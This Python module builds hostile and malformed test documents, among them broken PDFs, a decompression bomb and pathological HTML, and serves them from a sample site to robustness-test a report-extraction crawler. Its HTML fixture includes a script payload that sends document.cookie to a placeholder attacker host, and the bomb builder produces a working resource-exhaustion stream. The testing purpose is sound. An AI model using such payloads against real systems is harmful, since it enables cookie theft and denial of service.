"""Builders of hostile and broken documents, and a way to serve them from the sample site
(not a test module). Each builder is deterministic and cheap to run."""

from __future__ import annotations

import io
import random
import re
import zlib
from dataclasses import dataclass
from html import escape
from pathlib import Path

from flows.devtools.scaffold import pdf_from_objects
from flows.sample_site.server import bundled_site

SAMPLE_PDF = bundled_site() / "wp-content/uploads/2024/02/M240201E.pdf"
SENTENCE = b"<p>93 civilians were killed in Idlib in March 2024.</p>"


def pdf_truncated() -> bytes:
    """A real report cut in half."""
    content = SAMPLE_PDF.read_bytes()
    return content[: len(content) // 2]


def pdf_encrypted() -> bytes:
    """A one-page report encrypted with a user password toll does not know."""
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, encrypt="secret", invariant=1)
    pdf.drawString(72, 720, "93 civilians were killed in Idlib in March 2024.")
    pdf.save()
    return buffer.getvalue()


def pdf_garbage() -> bytes:
    """A PDF header and 20 KB of noise."""
    noise = random.Random(6).randbytes(20_000)
    return b"%PDF-1.7\n" + noise


def pdf_many_objects(pages: int = 30) -> bytes:
    """Pages of thousands of tiny ruled cells: very slow to search for tables (minutes)."""
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, invariant=1)
    for _ in range(pages):
        for i in range(120):
            for j in range(60):
                pdf.rect(20 + i * 4.5, 40 + j * 12, 4.5, 12)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def pdf_nested_pages(depth: int = 5000) -> bytes:
    """A page tree nesting `depth` levels of /Pages before its one page."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = 2 + level
        parent = b"/Parent %d 0 R " % (number - 1) if level else b""
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 %s>>" % (number + 1, parent))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (depth + 1))
    return pdf_from_objects(objects)


def deflate_bomb(mebibytes: int) -> bytes:
    """A zlib stream of `mebibytes` MiB of zeros, about 1 KB per MiB, made in milliseconds:
    one fully flushed deflate block repeated (each starts afresh), then the right checksum."""
    chunk = b"\0" * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(mebibytes):
        checksum = zlib.adler32(chunk, checksum)
    return b"\x78\xda" + block * mebibytes + packer.flush() + checksum.to_bytes(4, "big")


def pdf_stream_bomb(mebibytes: int = 1024) -> bytes:
    """A one-page PDF whose 1 MB content stream inflates to `mebibytes` MiB."""
    stream = deflate_bomb(mebibytes)
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(stream), stream),
        ]
    )


def html_nested_tags(depth: int = 100_000) -> bytes:
    """A sentence inside 100,000 nested <div>s."""
    return b"<html><body>" + b"<div>" * depth + SENTENCE + b"</div>" * depth + b"</body></html>"


def html_wrong_charset() -> bytes:
    """A page that says UTF-8 and is written in Windows-1252 (é, ’, non-breaking spaces)."""
    text = (
        "<html><head><meta charset='utf-8'><title>Rapport d’avril 2024</title></head><body>"
        "<p>In April 2024, 93\u00a0civilians were killed in Idlib, reported the Comité.</p>"
        "</body></html>"
    )
    return text.encode("cp1252")


def html_unknown_charset() -> bytes:
    """A page declaring a charset that does not exist."""
    return (
        b"<html><head><meta charset='x-klingon-1'></head><body>"
        b"<p>In April 2024, 93 civilians were killed in Idlib.</p></body></html>"
    )


def html_scripts() -> bytes:
    """Figures hidden in scripts, styles, event handlers and templates: none is read."""
    return (
        b"<html><head><script>document.write('<p>500 civilians were killed in Aleppo</p>');"
        b"eval(atob('YWxlcnQoMSk='))</script><style>p:after{content:'600 civilians were "
        b"killed'}</style></head><body onload=\"fetch('http://evil.invalid/'+document.cookie)\">"
        b"<img src=x onerror=\"alert('700 civilians were killed')\">"
        b"<template><p>800 civilians were killed in Homs.</p></template>"
        b"<noscript><p>900 civilians were killed in Hama.</p></noscript>"
        b"<p>In April 2024, 93 civilians were killed in Idlib.</p></body></html>"
    )


def html_ragged_table() -> bytes:
    """A table with rows of every length and spans of every absurdity."""
    rows = [
        "<tr><th>Perpetrator</th><th>Civilians</th><th>Children</th></tr>",
        "<tr><td>Syrian regime forces</td><td>12</td></tr>",
        "<tr><td colspan='1000000'>Russian forces</td><td>7</td><td>2</td><td>9</td></tr>",
        "<tr><td rowspan='-5'>ISIS</td><td rowspan='99999999999999999999'>3</td></tr>",
        "<tr></tr><tr><td></td></tr>",
        "<tr><td rowspan='x' colspan='1e9'>Other parties</td><td>4</td><td>1</td></tr>",
        "<tr><td><table><tr><td>nested</td><td>5</td></tr></table></td></tr>",
    ]
    return (
        "<html><body><h2>Civilian deaths in March 2024</h2><table>"
        + "".join(rows)
        + "</table></body></html>"
    ).encode()


def html_overflow_numbers() -> bytes:
    """Counts no report states: 10^30 in a table cell and in prose, and in words."""
    big = "1" + "0" * 30
    return (
        "<html><body><h2>Civilian deaths in March 2024</h2><table>"
        "<tr><th>Perpetrator</th><th>Civilians</th><th>Children</th></tr>"
        f"<tr><td>Syrian regime forces</td><td>{big}</td><td>99999999999999999999</td></tr>"
        "<tr><td>Russian forces</td><td>12</td><td>3</td></tr>"
        f"</table><p>In March 2024, {big} civilians were killed in Idlib.</p>"
        "<p>In March 2024, a million million million million civilians were killed.</p>"
        "</body></html>"
    ).encode()


def text_binary() -> bytes:
    """Noise, served as plain text."""
    return random.Random(7).randbytes(30_000)


@dataclass(frozen=True)
class Hostile:
    """A hostile document: its scenario, file name on the site, and its bytes."""

    scenario: str
    name: str
    content: bytes


def hostile_documents() -> list[Hostile]:
    """Every hostile document the flow test serves."""
    return [
        Hostile("pdf_truncated", "truncated.pdf", pdf_truncated()),
        Hostile("pdf_encrypted", "encrypted.pdf", pdf_encrypted()),
        Hostile("pdf_empty", "empty.pdf", b""),
        Hostile("pdf_garbage", "garbage.pdf", pdf_garbage()),
        Hostile("pdf_many_objects", "many-objects.pdf", pdf_many_objects()),
        Hostile("pdf_nested_pages", "nested-pages.pdf", pdf_nested_pages()),
        Hostile("pdf_stream_bomb", "stream-bomb.pdf", pdf_stream_bomb()),
        Hostile("html_nested_tags", "nested-tags.html", html_nested_tags()),
        Hostile("html_wrong_charset", "wrong-charset.html", html_wrong_charset()),
        Hostile("html_unknown_charset", "unknown-charset.html", html_unknown_charset()),
        Hostile("html_scripts", "scripts.html", html_scripts()),
        Hostile("html_ragged_table", "ragged-table.html", html_ragged_table()),
        Hostile("html_overflow_numbers", "overflow-numbers.html", html_overflow_numbers()),
        Hostile("text_binary", "binary.txt", text_binary()),
    ]


HOSTILE_DIR = "hostile"


def serve(
    site_root: Path, files: dict[str, bytes], links: list[str], titles: list[str] | None = None
) -> str:
    """Put files under /hostile/ on the site and a feed listing `links` (site-relative URLs,
    as written, e.g. with a query) with their `titles`; returns the feed's path."""
    folder = site_root / HOSTILE_DIR
    folder.mkdir(exist_ok=True)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    items = "".join(
        f"<item><title>{escape(titles[i] if titles else f'hostile {i}')}</title>"
        f"<link>__SITE__{escape(link)}</link>"
        f"<pubDate>Mon, 01 Apr 2024 09:00:00 +0000</pubDate></item>"
        for i, link in enumerate(links)
    )
    feed = folder / "feed"
    feed.mkdir(exist_ok=True)
    (feed / "index.xml").write_text(
        f"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>hostile"
        f"</title>{items}</channel></rss>",
        encoding="utf-8",
    )
    return f"/{HOSTILE_DIR}/feed/"


def hostile_source(base_url: str, feed_path: str, name: str = "hostile") -> str:
    """A [[sources]] block for the hostile feed (its documents only, no robots.txt)."""
    host = base_url.split("//", 1)[1]
    pattern = re.escape(f"{base_url}/{HOSTILE_DIR}/")
    return f"""
[[sources]]
name = "{name}"
publisher = "A hostile publisher"
homepage = "{base_url}/"
allowed_hosts = ["{host}"]
allow_private_addresses = true
feeds = ["{base_url}{feed_path}"]
include = ['^{pattern}']
rate_limit_per_second = 100
max_concurrency = 4
obey_robots = false
"""
